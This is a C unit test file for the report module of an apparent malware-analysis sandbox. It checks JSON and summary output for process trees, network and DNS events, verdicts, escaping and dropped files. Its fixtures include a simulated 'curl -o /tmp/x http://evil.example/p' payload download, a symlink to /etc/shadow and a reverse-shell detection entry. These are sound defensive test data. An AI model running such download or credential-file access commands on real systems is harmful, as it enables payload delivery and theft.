/* SPDX-License-Identifier: MIT */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "event.h"
#include "hash.h"
#include "macros.h"
#include "report.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <json-c/json.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define T0 1000000000ull /* monotonic start of the run in the tests */

static struct event ev_make(enum event_type type, int32_t pid, int32_t ppid, uint64_t ms)
{
	struct event ev;

	memset(&ev, 0, sizeof(ev));
	ev.type = type;
	ev.pid = pid;
	ev.ppid = ppid;
	ev.time_ns = T0 + ms * 1000000ull;
	snprintf(ev.comm, sizeof(ev.comm), "sample");
	return ev;
}

static void ev_argv(struct event *ev, const char *const *argv)
{
	size_t o = 0;

	for (size_t i = 0; argv[i]; i++) {
		size_t l = strlen(argv[i]) + 1;

		memcpy(ev->data + o, argv[i], l);
		o += l;
	}
	ev->data_len = (uint32_t)o;
}

static void ev_inet(struct event *ev, const char *ip, uint16_t port)
{
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(port)};

	inet_pton(AF_INET, ip, &sin.sin_addr);
	memcpy(ev->data, &sin, sizeof(sin));
	ev->data_len = sizeof(sin);
	ev->arg0 = AF_INET;
}

/* Everything a short run of a downloader produces. */
static void feed_run(struct report *r, const char *argv1)
{
	const char *argv_sh[] = {"/bin/sh", argv1, NULL};
	const char *argv_curl[] = {"curl", "-o", "/tmp/x", "http://evil.example/p", NULL};
	struct event ev;

	ev = ev_make(EV_PROC_EXEC, 10, 1, 1);
	snprintf(ev.path, sizeof(ev.path), "/bin/sh");
	ev_argv(&ev, argv_sh);
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_PROC_FORK, 11, 10, 2);
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_PROC_EXEC, 11, 10, 3);
	snprintf(ev.path, sizeof(ev.path), "/usr/bin/curl");
	ev_argv(&ev, argv_curl);
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_FILE_OPEN, 11, 10, 4);
	snprintf(ev.path, sizeof(ev.path), "/etc/ld.so.cache");
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_DNS_QUERY, 0, 0, 5);
	snprintf(ev.path, sizeof(ev.path), "evil.example");
	ev.arg0 = 1;
	ev.arg1 = 0x0a000002;
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_NET_CONNECT, 11, 10, 6);
	ev_inet(&ev, "10.0.0.2", 80);
	ev.arg2 = SOCK_STREAM;
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_FILE_WRITE, 11, 10, 7);
	snprintf(ev.path, sizeof(ev.path), "/tmp/x");
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_PROC_EXIT, 11, 10, 8);
	ev.arg0 = 9; /* killed by SIGKILL */
	assert_int_equal(report_add_event(r, &ev), 0);

	ev = ev_make(EV_PROC_EXIT, 10, 1, 9);
	ev.arg0 = 3 << 8;
	assert_int_equal(report_add_event(r, &ev), 0);
}

static struct report *report_build(const char *name, const char *argv1)
{
	struct report_object obj = {
	        .name = name, .type = "POSIX shell script", .mime = "text/x-shellscript"};
	struct report *r;

	assert_int_equal(hash_buf("echo\n", 5, &obj.hashes), 0);
	assert_int_equal(report_new(&r), 0);
	assert_int_equal(report_set_object(r, &obj), 0);
	report_set_times(r, 1700000000123456789ull, 1700000002123456789ull, T0);
	report_set_outcome(r, "exited", 0);
	report_set_no_verdict(r);
	feed_run(r, argv1);
	return r;
}

/* Writes the report to memory and parses it back; fails the test on invalid JSON. */
static json_object *report_parse(struct report *r, char **ret_text)
{
	char *text = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);
	json_tokener *tok = json_tokener_new();
	json_object *o;

	assert_non_null(f);
	assert_int_equal(report_write_json(r, f), 0);
	fclose(f);

	json_tokener_set_flags(tok, JSON_TOKENER_STRICT | JSON_TOKENER_VALIDATE_UTF8);
	o = json_tokener_parse_ex(tok, text, (int)len);
	assert_int_equal(json_tokener_get_error(tok), json_tokener_success);
	json_tokener_free(tok);
	assert_non_null(o);
	if (ret_text)
		*ret_text = text;
	else
		free(text);
	return o;
}

static json_object *jget(json_object *o, const char *key)
{
	json_object *v = NULL;

	assert_true(json_object_object_get_ex(o, key, &v));
	return v;
}

static void json_has_the_agreed_top_level_keys(void **state)
{
	static const char *const keys[] = {
	        "schema_version", "sha256", "object",  "analysis", "verdict",
	        "processes",      "events", "network", "dropped",  "output",
	};
	struct report *r = report_build("x.sh", "x.sh");
	json_object *o = report_parse(r, NULL);
	json_object *an;

	for (size_t i = 0; i < ARRAY_SIZE(keys); i++)
		jget(o, keys[i]);
	assert_int_equal(json_object_get_int(jget(o, "schema_version")), 1);
	assert_string_equal(json_object_get_string(jget(o, "sha256")), report_sha256(r));

	an = jget(o, "analysis");
	assert_string_equal(json_object_get_string(jget(an, "start")), "2023-11-14T22:13:20.123Z");
	assert_int_equal(json_object_get_int(jget(an, "duration_ms")), 2000);
	assert_string_equal(json_object_get_string(jget(an, "outcome")), "exited");
	assert_int_equal(json_object_get_int(jget(an, "main_exit_code")), 0);
	assert_false(json_object_get_boolean(jget(an, "events_truncated")));
	json_object_put(o);
	report_free(r);
}

static void verdict_is_none_never_clean(void **state)
{
	struct report *r;
	json_object *o, *v;

	/* Without report_set_no_verdict as well: "none" is the default, not an opt-in. */
	assert_int_equal(report_new(&r), 0);
	o = report_parse(r, NULL);
	v = jget(o, "verdict");
	assert_false(json_object_get_boolean(jget(v, "computed")));
	assert_string_equal(json_object_get_string(jget(v, "result")), "none");
	assert_true(json_object_is_type(jget(v, "score"), json_type_null));
	assert_int_equal(json_object_array_length(jget(v, "detections")), 0);
	json_object_put(o);
	report_free(r);
}

static void engine_verdict_is_written_and_summarised(void **state)
{
	static const char *const techs[] = { "T1059.004", "T1071.001" };
	static const size_t evidence[] = { 0, 2 };
	const struct report_detection det = {
		.id = "ST-C2-REVSHELL", .title = "Reverse shell", .severity = "critical",
		.kind = "behaviour", .techniques = techs, .n_techniques = 2,
		.evidence = evidence, .n_evidence = 2, .count = 1,
	};
	const struct report_verdict verdict = {
		.result = "malicious", .score = 95, .threat = "Linux.Backdoor.ReverseShell",
		.techniques = techs, .n_techniques = 2, .detections = &det, .n_detections = 1,
		.rules_version = "rules-0123456789ab",
	};
	struct report *r = report_build("x.sh", "x.sh");
	char *summary = NULL;
	size_t slen = 0;
	FILE *f;
	json_object *o, *v, *d;

	assert_int_equal(report_set_verdict(r, &verdict), 0);
	assert_string_equal(report_result(r), "malicious");
	o = report_parse(r, NULL);
	v = jget(o, "verdict");
	assert_true(json_object_get_boolean(jget(v, "computed")));
	assert_string_equal(json_object_get_string(jget(v, "result")), "malicious");
	assert_int_equal(json_object_get_int(jget(v, "score")), 95);
	assert_string_equal(json_object_get_string(jget(v, "rules_version")), "rules-0123456789ab");
	d = json_object_array_get_idx(jget(v, "detections"), 0);
	assert_string_equal(json_object_get_string(jget(d, "id")), "ST-C2-REVSHELL");
	assert_int_equal(json_object_get_int(json_object_array_get_idx(jget(d, "evidence"), 1)), 2);
	json_object_put(o);

	f = open_memstream(&summary, &slen);
	assert_int_equal(report_print_summary(r, f), 0);
	fclose(f);
	assert_non_null(strstr(summary, "Verdict: malicious (score 95)  Linux.Backdoor.ReverseShell"));
	assert_non_null(strstr(summary, "techniques: T1059.004 T1071.001"));
	assert_non_null(strstr(summary, "ST-C2-REVSHELL"));
	free(summary);
	report_free(r);
}

static json_object *proc_by_pid(json_object *procs, int pid)
{
	for (size_t i = 0; i < json_object_array_length(procs); i++) {
		json_object *p = json_object_array_get_idx(procs, i);

		if (json_object_get_int(jget(p, "pid")) == pid)
			return p;
	}
	fail_msg("no process %d", pid);
	return NULL;
}

static void process_tree_follows_fork_exec_exit(void **state)
{
	struct report *r = report_build("x.sh", "x.sh");
	json_object *o = report_parse(r, NULL);
	json_object *procs = jget(o, "processes"), *sh, *curl;

	assert_int_equal(json_object_array_length(procs), 2);
	sh = proc_by_pid(procs, 10);
	curl = proc_by_pid(procs, 11);

	assert_string_equal(json_object_get_string(jget(sh, "exe")), "/bin/sh");
	assert_int_equal(json_object_get_int(jget(sh, "exit_code")), 3);
	assert_int_equal(json_object_array_length(jget(sh, "children")), 1);
	assert_int_equal(json_object_get_int(json_object_array_get_idx(jget(sh, "children"), 0)),
	                 11);

	assert_int_equal(json_object_get_int(jget(curl, "ppid")), 10);
	assert_int_equal(json_object_get_int(jget(curl, "start_ms")), 2);
	assert_int_equal(json_object_get_int(jget(curl, "end_ms")), 8);
	assert_int_equal(json_object_get_int(jget(curl, "signal")), 9);
	assert_int_equal(json_object_array_length(jget(curl, "argv")), 4);
	assert_string_equal(
	        json_object_get_string(json_object_array_get_idx(jget(curl, "argv"), 3)),
	        "http://evil.example/p");
	assert_int_equal(json_object_array_length(jget(curl, "execs")), 1);
	json_object_put(o);
	report_free(r);
}

static void events_and_network_are_decoded(void **state)
{
	struct report *r = report_build("x.sh", "x.sh");
	json_object *o = report_parse(r, NULL);
	json_object *events = jget(o, "events"), *net = jget(o, "network"), *e, *c, *d;

	assert_int_equal(json_object_array_length(events), 9);
	e = json_object_array_get_idx(events, 5);
	assert_string_equal(json_object_get_string(jget(e, "type")), "net_connect");
	assert_int_equal(json_object_get_int(jget(e, "t_ms")), 6);
	assert_string_equal(json_object_get_string(jget(e, "family")), "inet");
	assert_string_equal(json_object_get_string(jget(e, "address")), "10.0.0.2");
	assert_int_equal(json_object_get_int(jget(e, "port")), 80);
	assert_string_equal(json_object_get_string(jget(e, "comm")), "sample");

	c = json_object_array_get_idx(jget(net, "connections"), 0);
	assert_string_equal(json_object_get_string(jget(c, "protocol")), "tcp");
	assert_int_equal(json_object_get_int(jget(c, "pid")), 11);
	d = json_object_array_get_idx(jget(net, "dns"), 0);
	assert_string_equal(json_object_get_string(jget(d, "name")), "evil.example");
	assert_string_equal(json_object_get_string(jget(d, "qtype_name")), "A");
	assert_string_equal(json_object_get_string(jget(d, "answer")), "10.0.0.2");
	json_object_put(o);
	report_free(r);
}

static void event_names_round_trip(void **state)
{
	for (int t = EV_PROC_FORK; t < EV_TYPE_MAX; t++) {
		const char *n = event_type_name((enum event_type)t);

		assert_string_not_equal(n, "unknown");
		assert_int_equal(event_type_from_name(n), t);
	}
	assert_string_equal(event_type_name(EV_SYSCALL_DENIED), "syscall_denied");
	assert_string_equal(event_type_name((enum event_type)9999), "unknown");
	assert_int_equal(event_type_from_name("no_such_event"), -ENOENT);
}

static void summary_shows_tree_network_and_no_routine_opens(void **state)
{
	struct report *r = report_build("x.sh", "x.sh");
	char *summary = NULL;
	size_t slen = 0;
	FILE *f = open_memstream(&summary, &slen);

	assert_int_equal(report_print_summary(r, f), 0);
	fclose(f);
	assert_non_null(strstr(summary, "\n  [10] /bin/sh  argv: /bin/sh x.sh  (exit 3)\n"));
	assert_non_null(strstr(summary, "\n    [11] /usr/bin/curl  argv: curl -o /tmp/x "));
	assert_non_null(strstr(summary, "(killed by signal 9)"));
	assert_non_null(strstr(summary, "conn  tcp 10.0.0.2 80\n"));
	assert_non_null(strstr(summary, "dns   evil.example A 10.0.0.2\n"));
	assert_non_null(strstr(summary, "file_write     /tmp/x\n"));
	assert_null(strstr(summary, "ld.so.cache"));
	free(summary);
	report_free(r);
}

static void hostile_strings_stay_valid_json_and_escaped(void **state)
{
	static const char evil[] = "\x1b[2Jpwn\xff\xfe\xc3(\xed\xa0\x80.sh";
	struct report *r = report_build(evil, evil);
	char *text = NULL, *summary = NULL;
	size_t slen = 0;
	json_object *o = report_parse(r, &text);
	json_object *argv = jget(proc_by_pid(jget(o, "processes"), 10), "argv");
	FILE *f;

	/* Valid UTF-8 (checked by the strict parser); the ESC survives only as \u001b. */
	assert_null(memchr(text, 0x1b, strlen(text)));
	assert_non_null(strstr(json_object_get_string(json_object_array_get_idx(argv, 1)),
	                       "\x1b[2Jpwn\xef\xbf\xbd"));

	f = open_memstream(&summary, &slen);
	assert_int_equal(report_print_summary(r, f), 0);
	fclose(f);
	assert_null(memchr(summary, 0x1b, slen));
	assert_non_null(strstr(summary, "\\x1b[2Jpwn"));
	assert_non_null(strstr(summary, "Verdict: none"));
	assert_non_null(strstr(summary, "not a clean verdict"));
	assert_null(strstr(summary, "clean\n"));

	free(summary);
	free(text);
	json_object_put(o);
	report_free(r);
}

static void timeline_is_capped_and_says_so(void **state)
{
	struct report *r;
	struct event ev = ev_make(EV_FILE_WRITE, 5, 1, 1);
	json_object *o;

	snprintf(ev.path, sizeof(ev.path), "/tmp/spam");
	assert_int_equal(report_new(&r), 0);
	for (int i = 0; i < 100005; i++)
		assert_int_equal(report_add_event(r, &ev), 0);
	o = report_parse(r, NULL);
	assert_int_equal(json_object_array_length(jget(o, "events")), 100000);
	assert_true(json_object_get_boolean(jget(jget(o, "analysis"), "events_truncated")));
	assert_int_equal(json_object_get_int(jget(jget(jget(o, "analysis"), "omitted"), "events")),
	                 5);
	json_object_put(o);
	report_free(r);
}

static int tmpdir_open(char *dir)
{
	int fd;

	assert_non_null(mkdtemp(dir));
	fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(fd >= 0);
	return fd;
}

static void dropped_file_is_saved_read_only_under_its_digest(void **state)
{
	char dir[] = "/tmp/test-report-XXXXXX", saved[160];
	static const char content[] = "#!/bin/sh\necho dropped\n";
	_cleanup_close_ int dfd = tmpdir_open(dir);
	_cleanup_close_ int src = -1;
	struct report_dropped d = {.path = "/tmp/dropper.sh", .kind = "file", .mode = 0755};
	struct file_hashes h;
	struct report *r;
	struct stat st;
	json_object *o, *e;

	src = openat(dfd, "src", O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	assert_int_equal(write(src, content, strlen(content)), (ssize_t)strlen(content));
	assert_int_equal(hash_buf(content, strlen(content), &h), 0);
	d.content_fd = src;

	assert_int_equal(report_new(&r), 0);
	assert_int_equal(report_add_dropped(r, &d, dfd, NULL), 0);
	o = report_parse(r, NULL);
	e = json_object_array_get_idx(jget(o, "dropped"), 0);
	assert_string_equal(json_object_get_string(jget(e, "sha256")), h.sha256);
	assert_string_equal(json_object_get_string(jget(e, "mode")), "0755");
	assert_true(json_object_get_boolean(jget(e, "saved")));
	assert_non_null(strstr(json_object_get_string(jget(e, "type")), "shell script"));

	snprintf(saved, sizeof(saved), "dropped/%s", h.sha256);
	assert_string_equal(json_object_get_string(jget(e, "saved_as")), saved);
	assert_int_equal(fstatat(dfd, saved, &st, AT_SYMLINK_NOFOLLOW), 0);
	assert_true(S_ISREG(st.st_mode));
	assert_int_equal(st.st_mode & 07777, 0400);
	assert_int_equal(st.st_size, (off_t)strlen(content));

	unlinkat(dfd, saved, 0);
	unlinkat(dfd, "dropped", AT_REMOVEDIR);
	unlinkat(dfd, "src", 0);
	rmdir(dir);
	json_object_put(o);
	report_free(r);
}

static void dropped_symlink_records_only_its_target(void **state)
{
	char dir[] = "/tmp/test-report-XXXXXX";
	_cleanup_close_ int dfd = tmpdir_open(dir);
	struct report_dropped d = {
	        .path = "/tmp/l",
	        .kind = "symlink",
	        .link_target = "/etc/shadow",
	        .content_fd = -1,
	};
	struct report_dropped del = {.path = "/tmp/gone", .kind = "deleted", .content_fd = -1};
	struct report *r;
	json_object *o, *e;

	assert_int_equal(report_new(&r), 0);
	assert_int_equal(report_add_dropped(r, &d, dfd, NULL), 0);
	assert_int_equal(report_add_dropped(r, &del, dfd, NULL), 0);
	o = report_parse(r, NULL);
	e = json_object_array_get_idx(jget(o, "dropped"), 0);
	assert_string_equal(json_object_get_string(jget(e, "link_target")), "/etc/shadow");
	assert_false(json_object_object_get_ex(e, "sha256", NULL));
	assert_false(json_object_object_get_ex(e, "saved_as", NULL));
	e = json_object_array_get_idx(jget(o, "dropped"), 1);
	assert_int_equal(json_object_object_length(e), 2);

	/* Nothing was copied: not even the dropped/ directory exists. */
	assert_int_equal(faccessat(dfd, "dropped", F_OK, AT_SYMLINK_NOFOLLOW), -1);
	rmdir(dir);
	json_object_put(o);
	report_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(json_has_the_agreed_top_level_keys),
	        cmocka_unit_test(verdict_is_none_never_clean),
	        cmocka_unit_test(engine_verdict_is_written_and_summarised),
	        cmocka_unit_test(process_tree_follows_fork_exec_exit),
	        cmocka_unit_test(events_and_network_are_decoded),
	        cmocka_unit_test(event_names_round_trip),
	        cmocka_unit_test(summary_shows_tree_network_and_no_routine_opens),
	        cmocka_unit_test(hostile_strings_stay_valid_json_and_escaped),
	        cmocka_unit_test(timeline_is_capped_and_says_so),
	        cmocka_unit_test(dropped_file_is_saved_read_only_under_its_digest),
	        cmocka_unit_test(dropped_symlink_records_only_its_target),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
